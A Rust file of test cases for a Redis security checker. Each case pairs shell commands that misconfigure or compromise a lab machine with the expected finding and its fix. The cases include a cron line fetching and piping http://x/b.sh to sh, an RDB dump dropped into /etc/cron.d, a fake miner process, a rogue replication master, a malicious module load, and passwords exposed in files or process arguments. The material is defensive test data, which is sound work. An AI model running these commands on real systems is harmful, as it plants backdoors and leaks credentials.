//! The machines that are bad in one way, as data.

/// How it is put right.
#[derive(Debug)]
pub enum Right {
    /// By `redis-tp check --fix`.
    Fix,
    /// By what a person types.
    Typed(&'static str),
    /// The same; and what makes the machine as it was for the next case.
    TypedThen(&'static str, &'static str),
}

/// A machine that is bad in one way.
pub struct Case {
    /// The check that has to fire.
    pub id: &'static str,
    /// What is done to a good machine.
    pub bad: &'static str,
    /// How bad it has to be found.
    pub severity: &'static str,
    /// How it is put right.
    pub right: Right,
}

use Right::{Fix, Typed, TypedThen};

/// One more server, that nobody manages and the server's user has started, with these lines in its configuration.
macro_rules! beside {
    ($lines:literal) => {
        concat!(
            "cat > /var/lib/redis/beside.conf <<'END'\nport 7000\ndir /var/lib/redis\ndbfilename beside.rdb\nsave \"\"\ndaemonize yes\npidfile /var/lib/redis/beside.pid\n",
            $lines,
            "\nEND\nsetpriv --reuid redis --regid redis --clear-groups redis-server /var/lib/redis/beside.conf; until test -s /var/lib/redis/beside.pid; do sleep 0.05; done"
        )
    };
}
/// What takes it away.
const AWAY: &str =
    "pid=$(cat /var/lib/redis/beside.pid); kill $pid; while test -e /proc/$pid; do sleep 0.05; done";

const fn case(id: &'static str, severity: &'static str, bad: &'static str, right: Right) -> Case {
    Case { id, bad, severity, right }
}

/// In an order in which one leaves nothing that the next stumbles over.
pub const CASES: &[Case] = &[
    case(
        "let-in",
        "high",
        "redis-tp cli -- ACL SETUSER admin off && redis-cli -a \"$(cat /etc/redis-tp/password)\" CONFIG SET requirepass somebodys-own",
        Typed("echo \"CONFIG SET requirepass $(cat /etc/redis-tp/password)\" | redis-cli --no-auth-warning -a somebodys-own && redis-cli -a \"$(cat /etc/redis-tp/password)\" ACL SETUSER admin on"),
    ),
    case(
        "open-door",
        "critical",
        "redis-tp install --plain --bind 0.0.0.0; for set in 'protected-mode no' 'requirepass \"\"'; do eval redis-tp cli -- CONFIG SET $set; done",
        Fix,
    ),
    case("open-door", "medium", "redis-tp install --no-password", Fix),
    // What lets anybody in, and does not say PONG.
    case("open-door", "critical", beside!("bind 0.0.0.0\nprotected-mode no\nrename-command PING \"\""), Typed(AWAY)),
    case(
        "open-door",
        "critical",
        beside!("bind 0.0.0.0\nprotected-mode no\nuser default on nopass ~* &* +@all -ping"),
        Typed(AWAY),
    ),
    case("protected-mode", "medium", "redis-tp cli slave -- CONFIG SET protected-mode no", Fix),
    case("wide-bind", "medium", "redis-tp install --bind 0.0.0.0", Fix),
    case(
        "firewall",
        "medium",
        "redis-tp install --bind 0.0.0.0",
        TypedThen(
            "nft 'add table inet redis; add chain inet redis input { type filter hook input priority 0; }; add rule inet redis input iif != lo tcp dport 6379 ip saddr != 10.9.0.2 drop'",
            "nft delete table inet redis; redis-tp install --bind 127.0.0.1",
        ),
    ),
    case(
        "firewall",
        "medium",
        "redis-tp install --bind 0.0.0.0; nft 'add table inet f; add chain inet f in { type filter hook input priority 0; policy drop; }; add rule inet f in iif lo accept; add rule inet f in meta l4proto tcp accept'",
        TypedThen(
            "nft 'flush chain inet f in; add rule inet f in iif lo accept; add rule inet f in ip saddr 10.9.0.2 tcp dport 6379 accept'",
            "nft delete table inet f; redis-tp install --bind 127.0.0.1",
        ),
    ),
    case(
        "firewall",
        "medium",
        "redis-tp install --bind 0.0.0.0; nft 'add table inet f; add chain inet f x; add rule inet f x drop; add chain inet f in { type filter hook input priority 0; }; add rule inet f in iifname eth77 jump x'",
        TypedThen(
            "nft 'add rule inet f in iif != lo tcp dport 6379 drop'",
            "nft delete table inet f; redis-tp install --bind 127.0.0.1",
        ),
    ),
    case(
        "cleartext",
        "medium",
        "redis-tp install --bind 10.9.0.1,127.0.0.1",
        Typed("redis-tp install --bind 127.0.0.1"),
    ),
    case(
        "default-user",
        "medium",
        "redis-tp install --plain --bind 10.9.0.1,127.0.0.1",
        TypedThen(
            "sed -i '/^users *= *plain/d' /etc/redis-tp/topology.ini && redis-tp apply",
            "redis-tp install --bind 127.0.0.1",
        ),
    ),
    // Not by anybody's wish: the bind was set by hand.
    case(
        "default-user",
        "medium",
        "redis-tp cli -- CONFIG SET bind '10.9.0.1 127.0.0.1'",
        Typed("redis-tp apply --overwrite && redis-tp service restart master"),
    ),
    case(
        "certificate",
        "high",
        "redis-tp install --tls && cd /etc/redis-tp/tls && openssl req -new -key server.key -subj /CN=x -out /tmp/csr && printf 'subjectAltName=IP:127.0.0.1,IP:::1,DNS:localhost' > /tmp/names && openssl x509 -req -in /tmp/csr -CA ca.crt -CAkey ca.key -set_serial 7 -days 0 -extfile /tmp/names -out server.crt && sleep 2",
        TypedThen("redis-tp check --fix --fail-on critical", "redis-tp install --no-tls"),
    ),
    case(
        "certificate-key",
        "high",
        "redis-tp install --tls && chmod 444 /etc/redis-tp/tls/server.key",
        TypedThen("redis-tp check --fix --fail-on critical", "redis-tp install --no-tls"),
    ),
    case(
        "certificate-key",
        "high",
        "redis-tp install --tls && chgrp redis /etc/redis-tp/tls/ca.key && chmod 640 /etc/redis-tp/tls/ca.key",
        TypedThen("redis-tp check --fix --fail-on critical", "redis-tp install --no-tls"),
    ),
    case(
        "certificate-key",
        "high",
        "redis-tp install --tls && chmod 644 /etc/redis-tp/tls/app.key",
        TypedThen("redis-tp check --fix --fail-on critical", "redis-tp install --no-tls"),
    ),
    case(
        "certificate-key",
        "high",
        "redis-tp install --tls && chown nobody /etc/redis-tp/tls/ca.key",
        TypedThen("redis-tp apply", "redis-tp install --no-tls"),
    ),
    case(
        "certificate-clients",
        "medium",
        "redis-tp install --tls --bind 10.9.0.1,127.0.0.1 --set tls-auth-clients=no",
        TypedThen(
            "redis-tp check --fix --except wide-bind --fail-on critical",
            "redis-tp install --no-tls --bind 127.0.0.1 && sed -i /tls-auth-clients/d /etc/redis-tp/topology.ini && redis-tp apply",
        ),
    ),
    case(
        "open-door",
        "critical",
        "redis-tp install --plain --tls --bind 0.0.0.0 --set tls-auth-clients=no; for set in 'protected-mode no' 'requirepass \"\"'; do eval redis-tp cli -- CONFIG SET $set; done",
        TypedThen(
            "redis-tp check --fix --fail-on critical",
            "sed -i '/^tls-auth-clients\\|^users/d' /etc/redis-tp/topology.ini && redis-tp install --no-tls --bind 127.0.0.1",
        ),
    ),
    case(
        "unix-socket",
        "medium",
        "redis-tp install --set unixsocket=/run/redis/redis.sock --set unixsocketperm=777",
        Fix,
    ),
    case("password", "high", "echo motdepasse | redis-tp install --password-file -", Fix),
    case(
        "users",
        "high",
        "redis-tp cli -- ACL SETUSER guest on nopass '~*' +get",
        Typed("redis-tp cli master -- ACL SETUSER guest off"),
    ),
    case(
        "users",
        "high",
        "redis-tp cli -- ACL SETUSER bob on '>something-long' '~*' +@all",
        Typed("redis-tp cli master -- ACL SETUSER bob -@dangerous"),
    ),
    case(
        "users",
        "high",
        "redis-tp cli -- ACL SETUSER bob on '>something-long' resetchannels -@all '(~* +config|set)'",
        Typed("redis-tp cli master -- ACL SETUSER bob clearselectors"),
    ),
    case(
        "users",
        "high",
        "cd /etc/redis-tp && chmod 600 topology.ini && sed -i '/^.master]/a user = bob on >something-long ~* +@all' topology.ini && redis-tp apply",
        TypedThen(
            "sed -i 's/^user = bob.*/& -@dangerous/' /etc/redis-tp/topology.ini && redis-tp apply && redis-tp check --fix --fail-on high",
            "sed -i '/^user = bob/d' /etc/redis-tp/topology.ini && redis-tp apply",
        ),
    ),
    case("users", "high", "redis-tp cli -- ACL SETUSER app +@read", Fix),
    case(
        "users",
        "high",
        "redis-tp cli -- ACL SETUSER bob on '>something-long' resetchannels '~*' -@all +@slow",
        Typed("redis-tp cli master -- ACL SETUSER bob -@dangerous && redis-tp cli -- ACL DELUSER bob"),
    ),
    case("users", "high", beside!("bind 127.0.0.1\nrename-command ACL \"\""), Typed(AWAY)),
    case("app-keys", "low", "redis-tp app install --prefix ''", Typed("redis-tp app install --prefix cache:")),
    case(
        "replica-user",
        "medium",
        "redis-tp cli slave -- CONFIG SET masteruser '' masterauth \"$(cat /etc/redis-tp/password)\"",
        Fix,
    ),
    case("config-mode", "medium", "chmod 644 /etc/redis/redis.conf", Fix),
    case(
        "config-mode",
        "high",
        "chmod 755 /etc/redis && chmod 644 /etc/redis/redis.conf",
        TypedThen("redis-tp check --fix", "chmod 2770 /etc/redis"),
    ),
    case("config-mode", "high", "chmod o+rwx /etc/redis", TypedThen("redis-tp check --fix", "chmod 2770 /etc/redis")),
    case("data-mode", "medium", "chmod 755 /var/lib/redis-slave", Fix),
    case(
        "data-mode",
        "high",
        concat!(saved!(), " && chmod 755 /var/lib/redis && chmod 644 /var/lib/redis/dump.rdb"),
        Fix,
    ),
    case("log-mode", "low", "chmod 666 /var/log/redis/redis-server.log", Fix),
    // What it stands for elsewhere is not known: it is left, and holds up no other fix.
    case(
        "log-mode",
        "low",
        "ln /var/log/redis/redis-server.log /root/copy.log && chmod 666 /root/copy.log",
        Typed("redis-tp check --fix --fail-on critical && test $(stat -c %a /root/copy.log) = 666 && chmod 640 /root/copy.log && rm /root/copy.log"),
    ),
    case(
        "aclfile-mode",
        "high",
        "cd /etc/redis && echo 'user default on >some-thing-long ~* &* +@all' > users.acl && chmod 644 users.acl
        printf 'port 7000\nbind 127.0.0.1\naclfile /etc/redis/users.acl\ndaemonize yes\ndir /var/lib/redis\n' > redis-x.conf
        chown redis:redis redis-x.conf users.acl && chmod 640 redis-x.conf
        setpriv --reuid redis --regid redis --clear-groups redis-server /etc/redis/redis-x.conf",
        Typed("chmod 0640 /etc/redis/users.acl && pkill -f '[r]edis-server.*:7000'; while pgrep -f '[r]edis-server.*:7000'; do sleep 0.05; done; rm /etc/redis/redis-x.conf /etc/redis/users.acl"),
    ),
    case(
        "root",
        "high",
        "mkdir -p /srv/x && cd /etc/redis && printf 'port 7000\nbind 127.0.0.1\nrequirepass some-thing-very-long-indeed-x\ndaemonize yes\ndir /srv/x\n' > redis-x.conf && redis-server /etc/redis/redis-x.conf",
        Typed("pkill -f '[r]edis-server.*:7000'; while pgrep -f '[r]edis-server.*:7000'; do sleep 0.05; done; rm /etc/redis/redis-x.conf"),
    ),
    case("backup-mode", "high", "redis-tp backup master && chmod 644 /var/backups/redis-tp/*", Fix),
    case(
        "secrets-argv",
        "high",
        "nohup perl -e 'sleep 1000' $(cat /etc/redis-tp/password) >/dev/null 2>&1 &",
        Typed("openssl rand -hex 32 > /root/password && redis-tp install --password-file /root/password"),
    ),
    case(
        "secrets-environ",
        "medium",
        "REDISCLI_AUTH=$(cat /etc/redis-tp/password) nohup sleep 1000 >/dev/null 2>&1 & echo $! > /root/pid",
        Typed("kill $(cat /root/pid)"),
    ),
    case(
        "secrets-files",
        "high",
        "echo \"export REDISCLI_AUTH=$(cat /etc/redis-tp/password)\" > /etc/default/redis-client && chmod 644 /etc/default/redis-client",
        Fix,
    ),
    // It was closed to the group, too, and no other check minds.
    case(
        "secrets-files",
        "high",
        "chmod 644 /etc/redis-tp/password",
        Typed("redis-tp check --fix --fail-on critical && test $(stat -c %a /etc/redis-tp/password) = 600"),
    ),
    case(
        "secrets-files",
        "high",
        "echo \"export REDISCLI_AUTH=$(cat /etc/redis-tp/password)\" > /etc/profile.d/redis.sh && chmod 644 /etc/profile.d/redis.sh",
        Typed("redis-tp check --fix --fail-on critical && test $(stat -c %a /etc/profile.d/redis.sh) = 644 && rm /etc/profile.d/redis.sh"),
    ),
    case(
        "secrets-files",
        "high",
        "mkdir -p /opt/shop && echo \"{password:$(cat /etc/redis-tp/password)}\" > /opt/shop/.env && chmod 644 /opt/shop/.env",
        Typed("chmod o-rwx /opt/shop/.env"),
    ),
    // Behind what one look at a file takes.
    case(
        "secrets-files",
        "high",
        "(head -c 3000000 /dev/zero | tr '\\0' x; cat /etc/redis-tp/password) > /srv/long && chmod 644 /srv/long",
        Typed("chmod o-rwx /srv/long"),
    ),
    case(
        "secrets-files",
        "medium",
        "yes x | head -c 70000000 > /srv/endless && chmod 644 /srv/endless",
        Typed("rm /srv/endless"),
    ),
    // A password that is not known here is not looked for.
    case("secrets-argv", "high", beside!("bind 127.0.0.1\nrequirepass nobody-told-us-of-this-one"), Typed(AWAY)),
    case("secrets-environ", "medium", beside!("bind 127.0.0.1\nrequirepass nobody-told-us-of-this-one"), Typed(AWAY)),
    // The upgrade restarts the master, and knows nothing of the replica.
    case(
        "package",
        "high",
        NEWER,
        TypedThen("apt-get install -y --only-upgrade redis-server redis-tools", "redis-tp check --fix"),
    ),
    case(
        "replaced-binary",
        "high",
        "cp -p /usr/bin/redis-check-rdb /usr/bin/other && mv /usr/bin/other /usr/bin/redis-check-rdb",
        Fix,
    ),
    case(
        "security-origin",
        "medium",
        "cp /etc/apt/sources.list /root/ && sed -i '/security/d' /etc/apt/sources.list && rm -f /etc/apt/sources.list.d/*",
        Typed("cp /root/sources.list /etc/apt/"),
    ),
    case(
        "security-origin",
        "medium",
        "cp /etc/apt/sources.list /root/ && sed -i 's/^deb \\(.*security\\)/deb-src \\1/' /etc/apt/sources.list && echo 'deb [signed-by=/x/my-security.gpg] http://mirror/updates/x-security '$(. /etc/os-release; echo $VERSION_CODENAME)' main' > /etc/apt/sources.list.d/mirror.list",
        Typed("cp /root/sources.list /etc/apt/ && rm /etc/apt/sources.list.d/mirror.list"),
    ),
    case("enable-debug", "high", "redis-tp install --set enable-debug-command=yes", Fix),
    case("enable-configs", "critical", "redis-tp install --set enable-protected-configs=yes", Fix),
    case("enable-module", "critical", "redis-tp install --set enable-module-command=yes", Fix),
    case("modules", "high", "redis-tp install --set loadmodule=/var/lib/redis/evil.so", Fix),
    case(
        "modules",
        "high",
        "redis-tp install --set enable-module-command=yes && redis-tp cli -- MODULE LOAD /var/lib/redis/evil.so
        sed -i '/enable-module/d' /etc/redis-tp/topology.ini /etc/redis/redis.conf",
        Fix,
    ),
    case("replica-writable", "medium", "redis-tp cli slave -- CONFIG SET replica-read-only no", Fix),
    case("file-limit", "low", "prlimit --pid $(cat /run/redis/redis-server.pid) --nofile=100:100", Typed("redis-tp service restart master")),
    case("master-host", "critical", "redis-tp cli slave -- REPLICAOF 10.66.6.6 6379", Fix),
    case(
        "master-host",
        "critical",
        "setpriv --reuid nobody --clear-groups redis-server --port 7777 --dir /tmp --save '' --daemonize yes --pidfile /tmp/rogue.pid
        redis-tp cli slave -- REPLICAOF 127.0.0.1 7777",
        TypedThen("redis-tp check --fix", "kill $(cat /tmp/rogue.pid)"),
    ),
    case(
        "master-host",
        "critical",
        "redis-tp cli slave -- REPLICAOF NO ONE",
        Typed("redis-tp cli slave -- REPLICAOF 127.0.0.1 6379 && until redis-tp cli slave -- INFO replication | grep -q link_status:up; do sleep 0.1; done"),
    ),
    case("foreign-places", "critical", "redis-tp cli -- CONFIG SET dbfilename root 2>&1 | grep -q protected; redis-tp install --set dbfilename=root", Typed("sed -i '/dbfilename/d' /etc/redis-tp/topology.ini && redis-tp apply")),
    case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
    case("foreign-keys", "critical", "echo 'SELECT 3\nSET backup1 x' | redis-tp cli", Typed("echo 'SELECT 3\nDEL backup1' | redis-tp cli")),
    case("foreign-keys", "critical", concat!(beside!("bind 127.0.0.1\nrename-command EXISTS \"\""), "; redis-cli -p 7000 SET backup1 x"), Typed(AWAY)),
    case("foreign-files", "critical", concat!(saved!(), " && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh"), Typed("rm /etc/cron.d/zzh")),
    case(
        "foreign-programs",
        "critical",
        "cp /bin/sleep /tmp/kdevtmpfsi && (nohup /tmp/kdevtmpfsi 1000 >/dev/null 2>&1 & echo $! > /root/pid); until pgrep -f ^/tmp/kdevtmpfsi; do sleep 0.05; done",
        Typed("kill $(cat /root/pid)"),
    ),
    case(
        "confinement",
        "medium",
        "printf 'port 7000\nbind 127.0.0.1\nrequirepass some-thing-very-long-indeed-x\ndir /var/lib/redis\n' > /etc/redis/redis-x.conf
        systemd-run --unit=plain --uid=redis redis-server /etc/redis/redis-x.conf; until redis-cli -p 7000 PING; do sleep 0.05; done",
        Typed("systemctl stop plain; rm /etc/redis/redis-x.conf"),
    ),
    case("login", "low", "usermod --shell /bin/sh redis", Typed("usermod --shell /usr/sbin/nologin redis")),
    case("maxmemory", "low", "redis-tp install --set maxmemory=0", Fix),
    case("eviction", "low", "redis-tp install --set maxmemory-policy=noeviction", Fix),
    case("overcommit", "low", "echo 0 > /root/overcommit_memory", Fix),
    case("huge-pages", "low", "echo '[always] madvise never' > /root/enabled", Fix),
    case("somaxconn", "low", "redis-tp install --set tcp-backlog=100000", TypedThen("redis-tp check --fix", "redis-tp install --set tcp-backlog=511")),
    case("check-system", "low", CLOCK, TypedThen("umount /usr/bin/redis-server", "redis-tp status")),
];

/// A security suite with a newer redis-server.
const NEWER: &str = r#"
    set -e; cd /root; rm -rf newer; mkdir newer; cd newer
    for name in redis-server redis-tools; do
        dpkg-deb -R /srv/repo/${name}_*.deb $name
        sed -i 's/^Version: .*/&+newer/; s/(= \(5:[^)]*\))/(= \1+newer)/' $name/DEBIAN/control
        dpkg-deb -b $name $name.deb >/dev/null
    done
    at=/srv/newer/dists/bookworm-security/main/binary-amd64; mkdir -p $at /srv/newer/pool
    cp *.deb /srv/newer/pool
    for deb in *.deb; do
        dpkg-deb -f $deb
        printf 'Filename: pool/%s\nSize: %s\nSHA256: %s\n\n' $deb $(stat -c %s $deb) $(sha256sum $deb | cut -d' ' -f1)
    done > $at/Packages
    echo 'deb [trusted=yes arch=amd64] file:/srv/newer bookworm-security main' > /etc/apt/sources.list.d/newer.list
    apt-get update -o Dir::Etc::sourcelist=/etc/apt/sources.list.d/newer.list -o Dir::Etc::sourceparts=- \
        -o APT::Get::List-Cleanup=0"#;

/// The lab by hand, as its text says.
pub const LAB: &str = r"
    apt-get install -y redis-server >/dev/null 2>&1
    cd /etc/redis
    sed -i 's/^bind .*/bind 0.0.0.0/; s/^protected-mode .*/protected-mode no/; s/^# requirepass .*/requirepass motdepasse/' redis.conf
    systemctl restart redis-server
    cp redis.conf redis-slave.conf
    sed -i 's/^port .*/port 6380/; s#^dir .*#dir /var/lib/redis-slave#; s#^logfile .*#logfile /var/log/redis/redis-slave.log#' redis-slave.conf
    printf 'replicaof 127.0.0.1 6379\nmasterauth motdepasse\n' >>redis-slave.conf
    mkdir /var/lib/redis-slave && chown redis:redis /var/lib/redis-slave
    redis-server /etc/redis/redis-slave.conf
    export REDISCLI_AUTH=motdepasse; redis-cli SET precious data
    until redis-cli -p 6380 GET precious | grep -q data; do sleep 0.1; done";

/// A server that minds the machine's clock, in the place of a machine that has a slow one.
const CLOCK: &str = r#"cat > /root/server <<'END'
#!/bin/sh
[ "$1" = --check-system ] && printf '[slow-clocksource]...WARNING:\nslow\n[overcommit]...OK\n' && exit 1
exec /usr/bin/redis-check-rdb "$@"
END
chmod 755 /root/server && mount --bind /root/server /usr/bin/redis-server"#;
